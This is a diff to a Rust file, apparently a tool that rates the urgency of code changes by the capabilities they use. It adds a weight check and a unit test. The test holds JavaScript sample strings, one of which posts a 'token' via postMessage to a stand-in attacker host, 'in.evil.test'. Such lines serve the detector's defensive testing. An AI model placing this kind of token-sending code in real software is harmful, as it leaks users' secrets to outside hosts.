@@ -49,6 +49,9 @@ impl Kind {
     }
 
     fn of(capability: Capability) -> Option<Self> {
+        if !capability.has_weight() {
+            return None;
+        }
         match capability.group() {
             Group::Data => Some(Self::Data),
             Group::Network => Some(Self::Network),
@@ -206,6 +209,15 @@ mod tests {
         );
         assert!(order.is_sorted(), "{order:?}");
         assert!(matches!(order[5], Urgency::Other(_)) && order[6] == Urgency::Nothing, "{order:?}");
+    }
+
+    #[test]
+    fn a_message_that_stays_in_its_window_is_nothing_of_weight_and_one_to_anybody_is() {
+        let posts = |to: &str| urgency(Some("f(1)"), &format!("f(1); {to}.postMessage(token, '*')"));
+        assert_eq!(posts("window"), Urgency::Nothing);
+        assert_eq!(posts("top").text(), "newly reaches for data");
+        let new = urgency(Some("f(1)"), "f(1); w.postMessage(token, 'https://in.evil.test')");
+        assert_eq!(new.text(), "newly reaches for data, sends or names a host");
     }
 
     #[test]
